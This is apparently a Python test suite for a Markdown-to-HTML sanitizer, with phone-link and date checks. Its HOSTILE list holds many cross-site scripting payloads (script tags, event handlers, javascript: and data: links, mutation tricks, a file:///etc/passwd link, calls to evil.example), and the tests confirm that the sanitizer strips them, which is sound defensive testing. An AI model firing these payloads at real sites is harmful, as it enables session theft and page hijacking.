"""What entries say, made ready to show: Markdown to safe HTML, numbers to links, dates to come."""

import re
from html.parser import HTMLParser

import markdown
import nh3
import phonenumbers
import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from ourpatch.compiling import prose
from ourpatch.compiling.prose import to_html, to_words
from ourpatch.compiling.rows import phone_link
from ourpatch.compiling.simple_prose import has_marks
from ourpatch.keeping.freshness import months_later
from ourpatch.reading import read_entry

#: The only tags that may ever come out, with the attributes that each may have.
SAFE: dict[str, tuple[str, ...]] = {
    **dict.fromkeys(("p", "br", "strong", "em", "ul", "ol", "li", "blockquote", "code", "hr"), ()),
    **dict.fromkeys(("h3", "h4", "h5", "h6"), ()),
    "a": ("href", "rel"),
}

#: How links may start.
SAFE_LINK = re.compile(r"(https?:|mailto:|tel:|[/#?.\w][^:]*$|$)", re.I)


class Unsafe(HTMLParser):
    """Finds what must not be in HTML that we show."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Note a tag that is not one of ours, and an attribute or a link that may do something."""
        if tag not in SAFE:
            self.found.append(tag)
        for name, value in attrs:
            if name not in SAFE.get(tag, ()):
                self.found.append(f"{tag} {name}")
            if name == "href" and not SAFE_LINK.match(value or ""):
                self.found.append(f"{tag} {value}")

    def handle_comment(self, data: str) -> None:
        """Note a comment."""
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        """Note a declaration."""
        self.found.append(f"<!{decl}")


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>\n\nalert(1)\n\n</script>",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(1))",
    '![x](https://evil.example/pixel.gif "x")',
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=q><button>Go</button></form>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<b onmouseover=alert(1)>x</b>",
    "<p style='position:fixed;inset:0' class=banner id=main>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href='https://example.org' target=_blank onclick=alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    '[x](https://example.org" onmouseover="alert(1))',
    '[x](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    'https://example.org/"onmouseover=alert(1)',
    "https://example.org/'><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?>",
    "<!doctype html><html><body onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "**<script>**alert(1)**</script>**",
    "- <script>alert(1)</script>\n- [x](javascript:alert(1))",
    "# <img src=x onerror=alert(1)>",
    "> <iframe src=https://evil.example></iframe>",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    '<a href="https://example.org\x00javascript:">x</a>',
]


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_that_runs_comes_out(hostile: str) -> None:
    """Whatever somebody writes, only words, lists and links to pages come out."""
    for text in (hostile, f"Come on Tuesday. {hostile} Bring cake.", f"- one\n{hostile}\n\n- two"):
        assert [] == Unsafe(to_html(text)).found


@settings(max_examples=400, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(max_size=12), st.sampled_from(HOSTILE), st.sampled_from("<>[]()*_`#-\n&\"'")
        ),
        max_size=12,
    ).map("".join)
)
def test_nothing_that_runs_comes_out_of_anything(text: str) -> None:
    """Hostile words run together, or with any others, are as harmless."""
    assert [] == Unsafe(to_html(text)).found


#: What people write where they do not think of Markdown, and a little of what is close to it.
PLAIN = st.text(
    st.one_of(
        st.sampled_from("abc  \n\n.,:;!?'\"()-+=0123456789#~|&^$%@/{}’“”–—é£"),
        st.characters(codec="utf-8"),
    ),
    max_size=80,
)


@settings(max_examples=600, deadline=None)
@given(PLAIN)
def test_plain_words_come_out_as_markdown_would_have_them(text: str) -> None:
    """Text with no Markdown in it skips the parser, and its HTML is the same."""
    assume(not has_marks(text))
    parsed = markdown.markdown(text, extensions=["sane_lists"], output_format="html")

    assert nh3.clean(parsed).strip() == to_html(text)


def lines(html: str) -> list[str]:
    """The lines of some HTML that hold something."""
    return [line for line in html.strip().split("\n") if line.strip()]


#: What people write in Markdown, and what is close to it.
PIECES = (
    *("word", "two words", " ", " ", ".", ",", "!", "(", ")", "&", "’", "é", "3", "£4"),
    *("\n", "\n\n", "\n- one", "\n- ", "\n* one", "\n1. one", "\n2. ", "\n  ", "  \n"),
    *("**", "*", "_", "**bold**", "**two words**", " **bold** ", "**a** b **c**", "***"),
    *("[words](https://a.example/b)", "[", "](", "https://a.example/x?y=1", "<https://b.example>"),
    *("<", ">", "`", "\\", "#", "\n# ", "\n> ", "&amp;", "&#38;", "\n---", "\n===", "\n+ one"),
)


@settings(max_examples=3000, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_simple_markdown_comes_out_as_the_parser_would_have_it(text: str) -> None:
    """Bold words, links and lists that skip the parser have the same HTML as from the parser."""
    parsed = prose._parsed(prose._as_people_mean_it(text).strip("\n"))

    assert lines(prose._CLEANER.clean(parsed)) == lines(to_html(text))


def test_a_paragraph_needs_no_parser() -> None:
    """What most people write, quotes, brackets, dashes and all, is known to have no Markdown."""
    text = "Don’t ring - text! It’s £4 (tea & cake incl.), 2pm: “late” is fine?\n\nWe're 50% dogs."

    assert not has_marks(text)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", ""),
        ("One line.", "<p>One line.</p>"),
        ("One.\nStill one.\n\nTwo.", "<p>One.\nStill one.</p>\n<p>Two.</p>"),
        ("Tea & cake, 5 < 6", "<p>Tea &amp; cake, 5 &lt; 6</p>"),
        ("**Bold** and *leaning*", "<p><strong>Bold</strong> and <em>leaning</em></p>"),
        ("snake_case_stays", "<p>snake_case_stays</p>"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("* one\n* two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>"),
        ("1. one\n2. two", "<ol>\n<li>one</li>\n<li>two</li>\n</ol>"),
        ("> Lovely people", "<blockquote>\n<p>Lovely people</p>\n</blockquote>"),
    ],
)
def test_markdown_that_people_use(text: str, expected: str) -> None:
    """Paragraphs, bold, lists and quotes."""
    assert expected == to_html(text)


def test_a_list_right_under_words_is_a_list() -> None:
    """Nobody leaves the empty line that Markdown's letter asks for."""
    html = to_html("We do:\n- hair\n- nails\n\nRing:\n1. Sam\n2. Jo")

    assert "<p>We do:</p>\n<ul>\n<li>hair</li>\n<li>nails</li>\n</ul>" in html
    assert "<p>Ring:</p>\n<ol>\n<li>Sam</li>\n<li>Jo</li>\n</ol>" in html


@pytest.mark.parametrize(
    "text",
    [
        "We began in\n1998. There were four of us.",
        "Tea, cake and talk\n-and no forms",
        "It costs 4\n*plus* the bus",
    ],
)
def test_words_that_only_look_like_a_list_are_not_one(text: str) -> None:
    """A year or a dash at the start of a line is part of the words above it."""
    assert "<li>" not in to_html(text)


def test_a_list_goes_on_after_a_long_item() -> None:
    """An item on two lines does not break its list in two."""
    html = to_html("- hair, but only\n  on Tuesdays\n- nails")

    assert 1 == html.count("<ul>")
    assert "<p>" not in html


@pytest.mark.parametrize(
    ("text", "link"),
    [
        ("See https://example.org/a_b.", "https://example.org/a_b"),
        ("https://example.org", "https://example.org"),
        ("(https://example.org)", None),
        ("[here](https://example.org/x)", "https://example.org/x"),
        ("<https://example.org/y>", "https://example.org/y"),
        ("[ring](tel:+441632960123)", "tel:+441632960123"),
        ("[write](mailto:sam@example.org)", "mailto:sam@example.org"),
    ],
)
def test_links(text: str, link: str | None) -> None:
    """A web address on its own is a link, without the full stop after it."""
    found = re.findall(r'href="([^"]*)"', to_html(text))

    assert ([link] if link else []) == found


def test_links_tell_other_sites_nothing() -> None:
    """A link gives the page that it leads to no hold on ours."""
    assert 'rel="noopener"' in to_html("https://example.org")


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("# Hello", ["h3"]),
        ("## Hello", ["h3"]),
        ("# One\n\n## Two\n\n# Three", ["h3", "h4", "h3"]),
        ("#### Deep\n\n##### Deeper", ["h3", "h4"]),
        ("# 1\n\n###### 6", ["h3", "h6"]),
        ("#hashtag", ["h3"]),
    ],
)
def test_headings_stand_below_those_of_the_page(text: str, expected: list[str]) -> None:
    """The topmost heading that somebody writes is the page's third level."""
    assert expected == re.findall(r"<(h\d)>", to_html(text))


def test_markdown_that_people_do_not_mean() -> None:
    """Indented words are not code, and a line of dashes under words does not make a heading."""
    html = to_html("We meet:\n\n    in the hall\n\nSummer\n------\n\n**Bring** a hat.")

    assert re.findall(r"<(\w+)", html) == ["p", "p", "p", "hr", "p", "strong"]


def test_pictures_are_left_out() -> None:
    """A picture would be fetched from somebody else's computer; its words stay."""
    html = to_html("![Our hall](https://example.org/hall.jpg)")

    assert "<img" not in html
    assert "Our hall" in html


def test_the_words_of_html() -> None:
    """The search gets the words, apart from each other, and none of the tags."""
    html = to_html("# Tea & cake\n\n- **one**\n- [two](https://example.org)\n\n5 < 6")

    assert ["Tea", "&", "cake", "one", "two", "5", "<", "6"] == to_words(html).split()


NUMBERS = [
    "01632 960123", "0113 496 0123", "020 7946 0958", "07700 900123", "0808 157 0123",
    "(01632) 960-123", "+44 1632 960123", "0044 1632 960123", "1632960123", "028 9649 6123",
    "01632 960123 ext 4", "+353 1 234 5678", "+33 1 23 45 67 89", "0800 1111",
]  # fmt: skip


@pytest.mark.parametrize("written", NUMBERS)
def test_a_phone_link_rings_the_number(written: str) -> None:
    """However it was written, the link has the number with its country, as phones want it."""
    number = phonenumbers.parse(written, "GB")
    country = f"tel:+{number.country_code}{number.national_number}"
    expected = f"{country},{number.extension}" if number.extension else country

    assert expected == phone_link(_as_read(written))


@settings(max_examples=300, deadline=None)
@given(st.integers(1_000_000_000, 7_999_999_999))
def test_a_phone_link_rings_any_number(digits: int) -> None:
    """Any British number that is accepted leads to its own digits."""
    read = _as_read(f"0{digits}")
    assume(read)

    assert f"tel:+44{digits}" == phone_link(read)


def _as_read(written: str) -> str | None:
    """A phone number as reading leaves it; None when it cannot be one."""
    entry = read_entry(f"contact: {{phone: '{written}'}}".encode(), "sam.yml")
    found: str | None = entry.get("contact.phone")
    return found


@pytest.mark.parametrize("number", ["999", "111", "116 123"])
def test_a_short_number_is_left_as_it_is(number: str) -> None:
    """Nobody dials a country before 999."""
    assert f"tel:{number.replace(' ', '')}" == phone_link(number)


def test_a_number_to_text_has_a_link_that_texts() -> None:
    """The same number, for a message."""
    assert "sms:+447700900123" == phone_link("07700 900123", "sms")
    assert None is phone_link(None)


@pytest.mark.parametrize(
    ("day", "months", "expected"),
    [
        ("2026-01-15", 1, "2026-02-15"),
        ("2026-01-31", 1, "2026-03-01"),
        ("2026-12-31", 2, "2027-03-01"),
        ("2026-03-31", 1, "2026-05-01"),
        ("2024-02-29", 12, "2025-03-01"),
        ("2024-02-29", 48, "2028-02-29"),
        ("2026-12-01", 1, "2027-01-01"),
        ("2026-11-30", 12, "2027-11-30"),
        ("2026-10-31", 13, "2027-12-01"),
        ("2026-06-15", 0, "2026-06-15"),
    ],
)
def test_months_later(day: str, months: int, expected: str) -> None:
    """The same day of the month, or the first of the next where there is no such day."""
    assert expected == months_later(day, months)
